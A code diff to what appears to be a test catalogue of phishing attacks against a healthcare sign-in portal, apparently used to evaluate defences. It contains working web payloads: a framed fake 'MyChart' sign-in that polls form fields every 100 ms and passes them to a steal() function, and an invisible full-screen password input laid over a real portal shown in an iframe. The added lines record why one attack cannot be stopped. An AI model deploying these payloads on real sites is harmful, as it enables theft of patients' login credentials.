@@ -28,6 +28,9 @@ const clickAndType =
 const FILL = `const fill = (frame) => { const d = frame.contentDocument; d.title = "${TITLE}"; d.body.innerHTML = ${JSON.stringify(SIGN_IN)};
   listenIn(frame.contentWindow); let last = ""; setInterval(() => { const all = readFields(d); if (all !== last) steal((last = all), "value"); }, 100); d.querySelector("#password").focus(); };`;
 
+const UNCLAIMED =
+  "A page that says nothing of whose it is asks for a password as any page may; that it shows a real portal in a frame is no claim, since clinics do. Real portals forbid to be framed, and then this page shows nothing.";
+
 export const attacks = [
   {
     id: "frame-elsewhere",
@@ -50,6 +53,8 @@ export const attacks = [
   },
   {
     id: "frame-good-unclaimed",
+    due: false,
+    residual: { chromium: UNCLAIMED, firefox: UNCLAIMED },
     what: "says it is of nobody, shows the real sign-in in a frame, and lays a password field over it",
     page: plain("frame-good-unclaimed", {
       body: `<iframe ${BIG} src="https://mychart.org/?unclaimed"></iframe><input id="over" type="password" style="position:fixed;inset:0;width:100%;height:100%;opacity:0;z-index:9">`,
@@ -201,6 +206,7 @@ export const attacks = [
         `window.inside = ${JSON.stringify(`<title>${TITLE}</title>${script(thief("frames-renewed"))}<h1>MyChart</h1>${FORM}`).replaceAll("</script", "<\\/script")};`,
       ),
     }),
+    person: once(`frames[0]?.document.querySelector("#password")`),
   },
   {
     id: "frame-sandboxed-document",
